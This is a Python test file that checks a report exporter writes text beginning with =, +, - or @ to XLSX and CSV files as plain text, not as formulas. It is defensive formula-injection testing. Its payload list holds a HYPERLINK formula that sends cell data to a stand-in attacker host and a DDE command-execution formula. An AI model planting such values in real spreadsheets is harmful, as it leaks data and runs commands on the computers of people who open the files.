"""No formula reaches a spreadsheet (issue 13, finding 3): text starting with = + - @ is exported as text.

The workbook is read back cell by cell with openpyxl; the CSV files with the csv module.
"""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

from conftest import CORPUS, STEMS, corpus_report
from openpyxl import load_workbook
from sqlalchemy import select

from mocparse.db import create_db_engine
from mocparse.db import schema as s
from mocparse.db.load import load_jsonl
from mocparse.export_safety import FORMULA_STARTS, csv_field, starts_like_formula

from .support import run_cli

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")',
    "=cmd|' /C calc'!A0",
    "+7 912 000-00-00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)


def hostile_report():
    report = corpus_report(CORPUS / "txt" / f"{STEMS[0]}.txt").model_copy(deep=True)
    report.document.title = PAYLOADS[0]
    for task, payload in zip(report.tasks, PAYLOADS[1:], strict=False):
        task.text = payload
        task.evidence.text = payload
    report.activities[0].title = PAYLOADS[4]
    report.activities[0].responsible = [PAYLOADS[1]]
    return report


def test_no_formula_reaches_xlsx_or_csv_and_the_database_keeps_the_text(tmp_path: Path) -> None:
    report = hostile_report()
    assert len(report.tasks) >= len(PAYLOADS) - 1
    jsonl = tmp_path / "hostile.jsonl"
    jsonl.write_text(report.model_dump_json() + "\n", encoding="utf-8")
    url = f"sqlite:///{tmp_path / 'db.sqlite'}"
    engine = create_db_engine(url)
    load_jsonl(engine, jsonl)

    xlsx, csv_dir, plain_dir = tmp_path / "regional.xlsx", tmp_path / "csv", tmp_path / "plain"
    result = run_cli("export", "--db", url, "--xlsx", str(xlsx), "--csv", str(csv_dir))
    assert result.returncode == 0, result.stderr
    result = run_cli("export", "--db", url, "--csv", str(plain_dir), "--csv-dialect", "plain")
    assert result.returncode == 0, result.stderr

    # XLSX: not one formula cell; the text is in the cells unchanged
    workbook = load_workbook(xlsx)
    texts: list[str] = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if starts_like_formula(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    for payload in PAYLOADS:
        assert payload in texts, payload
    with zipfile.ZipFile(xlsx) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)

    # CSV (both dialects): every field that starts like a formula has the leading quote; dropping it gives the text
    for folder, delimiter, encoding in ((csv_dir, ";", "utf-8-sig"), (plain_dir, ",", "utf-8")):
        fields: list[str] = []
        for path in sorted(folder.glob("*.csv")):
            with path.open(encoding=encoding, newline="") as handle:
                for row in csv.reader(handle, delimiter=delimiter):
                    for field in row:
                        assert not field.startswith(FORMULA_STARTS), (path.name, field)
                        fields.append(field)
        for payload in PAYLOADS:
            assert "'" + payload in fields, (folder.name, payload)

    # the database keeps what the report says
    with engine.connect() as connection:
        stored = set(connection.execute(select(s.tasks.c.text)).scalars())
        title = connection.execute(select(s.documents.c.title)).scalar_one()
    assert set(PAYLOADS[1:]) <= stored and title == PAYLOADS[0]
    engine.dispose()


def test_csv_field_leaves_numbers_and_ordinary_text_alone() -> None:
    assert csv_field(-5) == -5 and csv_field(2.5) == 2.5 and csv_field(None) is None
    assert csv_field("Охват 74,5 %") == "Охват 74,5 %"
    assert csv_field("- 20 программ") == "'- 20 программ"
